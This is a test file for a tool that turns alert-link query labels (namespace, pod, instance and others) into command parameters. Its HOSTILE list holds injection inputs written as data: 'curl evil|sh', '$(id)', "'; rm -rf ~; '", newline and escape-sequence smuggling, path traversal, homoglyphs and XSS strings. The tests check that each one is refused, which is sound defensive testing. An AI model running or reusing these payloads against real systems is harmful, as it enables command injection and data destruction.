// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell text.

import { describe, expect, it } from 'vitest';
import { linkValues } from '../../../src/commands';
import { readLink } from '../../../src/content/alerts/link';

/** The labels of a query as it stands in an address. */
function read(query: string, allowed?: readonly string[]) {
  return linkValues(readLink(`?${query}`), allowed);
}

function accepted(query: string, allowed?: readonly string[]): Record<string, string> {
  return Object.fromEntries(read(query, allowed).accepted.map(({ parameter, value }) => [parameter, value]));
}

describe('the labels of a link', () => {
  it.each([
    ['namespace=payments&pod=api-0', { NAMESPACE: 'payments', POD: 'api-0' }],
    ['NAMESPACE=payments&Pod=api-0', { NAMESPACE: 'payments', POD: 'api-0' }],
    ['ns=payments&pvc=data-0&ctx=prod', { NAMESPACE: 'payments', PVC: 'data-0', CONTEXT: 'prod' }],
    ['job_name=nightly-28901', { JOB: 'nightly-28901' }],
    ['instance=10.0.3.17:9100', { INSTANCE: '10.0.3.17:9100' }],
    [
      'persistentvolumeclaim=data-0&horizontalpodautoscaler=api&poddisruptionbudget=api',
      { PVC: 'data-0', HPA: 'api', PDB: 'api' },
    ],
    ['device=/dev/sda1&mountpoint=/var/lib', { DEVICE: '/dev/sda1', MOUNTPOINT: '/var/lib' }],
    ['device=eth0', { INTERFACE: 'eth0' }],
    ['namespace=&pod=api-0', { POD: 'api-0' }],
    ['namespace=payments&namespace=payments', { NAMESPACE: 'payments' }],
    ['namespace=payments&amp;pod=api-0', { NAMESPACE: 'payments', POD: 'api-0' }],
    ['q=namespace&path=a', {}],
  ])('%s fills its parameters', (query, expected) => {
    expect(accepted(query)).toEqual(expected);
  });

  it('takes exported_x before x, and says so', () => {
    const { accepted: values, ignored } = read('namespace=monitoring&exported_namespace=payments');
    expect(values).toEqual([{ parameter: 'NAMESPACE', value: 'payments', label: 'exported_namespace' }]);
    expect(ignored).toMatchObject([{ label: 'namespace', code: 'shadowed' }]);
  });

  it.each(['job=kube-state-metrics', 'exported_job=node'])('does not take the scrape job for a Job: %s', (query) => {
    expect(read(query)).toMatchObject({ accepted: [], refused: [], ignored: [{ code: 'scrape-job' }] });
  });

  it('ignores with a reason what does not describe the fault of the alert', () => {
    const { accepted: values, ignored } = read('namespace=payments&pod=kube-state-metrics-0&deploy=api', [
      'namespace',
      'deployment',
    ]);
    expect(values.map(({ parameter }) => parameter)).toEqual(['NAMESPACE', 'DEPLOYMENT']);
    expect(ignored).toMatchObject([{ label: 'pod', code: 'not-about-the-fault', reason: { en: expect.any(String) } }]);
  });

  it('shows what it does not know', () => {
    expect(read('x=%24(id)&alertname=KubePodCrashLooping').ignored).toMatchObject([
      { label: 'x', value: '$(id)', code: 'unknown' },
      { label: 'alertname', code: 'unknown' },
    ]);
  });

  it.each(['namespace=a&namespace=b', 'namespace=a&ns=b', 'exported_namespace=a&exported_namespace=b&namespace=a'])(
    'refuses two different values for one parameter: %s',
    (query) => {
      expect(read(query)).toMatchObject({
        accepted: [],
        refused: [{ parameter: 'NAMESPACE', refusal: { code: 'conflict' } }],
      });
    },
  );
});

/** Links that somebody could post into an incident channel. None may fill anything. */
const HOSTILE = [
  'namespace=x;curl evil|sh',
  'namespace=%24(id)',
  'namespace=`id`',
  "namespace='; rm -rf ~; '",
  'namespace="; rm -rf ~; "',
  'namespace=--all',
  'namespace=-n',
  'namespace=%2D%2Dall-namespaces',
  'pod=x%0Acurl evil',
  'pod=x%0D%0Acurl evil',
  'pod=x%00',
  'pod=%1b[201~curl evil',
  'pod=api%E2%80%AEgnp',
  'pod=api%E2%80%8B',
  'pod=a%EF%BB%BFpi',
  'pod=аpi',
  'pod=ａｐｉ',
  'pod=api！',
  'pod=api 0',
  'pod=api+0',
  'pod=../../secrets',
  'pod=api/../x',
  'pod=*',
  'pod={a,b}',
  'pod=~',
  'pod=!!',
  'pod=%25',
  'pod=<script>alert(1)</script>',
  'pod=javascript:alert(1)',
  'container=api&container=api;id',
  'node=worker-3%20--force',
  'instance=10.0.0.1:9100;id',
  'instance=http://evil',
  'instance=user@evil:22',
  'image=nginx;id',
  'image=$(id)/x',
  'image=nginx@sha256:$(id)',
  'cluster=prod;id',
  'context=%24%7BIFS%7D',
  'mountpoint=/var/../etc',
  'mountpoint=/var;id',
  'mountpoint=var',
  'selector=app=x -A',
  'selector=app in (x)',
  'revision=1;id',
  `namespace=${'a'.repeat(254)}`,
  `pod=${'a.'.repeat(300)}`,
  'namespace=%F0%9F%94%A5',
  'namespace=%ZZ',
  'namespace=%C0%AE',
] as const;

describe('a hostile link', () => {
  it.each(HOSTILE)('fills nothing and gets a reason: %s', (query) => {
    const { accepted: values, refused } = read(query);
    expect(values).toEqual([]);
    expect(refused.length).toBeGreaterThan(0);
    expect(refused[0]?.refusal.text['zh-Hans']).toMatch(/\p{Script=Han}/u);
  });

  it.each(['__proto__=x', 'constructor=x', 'toString=x', 'PATH=/tmp', 'hasOwnProperty=x'])(
    'cannot name anything else: %s',
    (query) => {
      expect(read(query)).toMatchObject({ accepted: [], refused: [] });
    },
  );
});
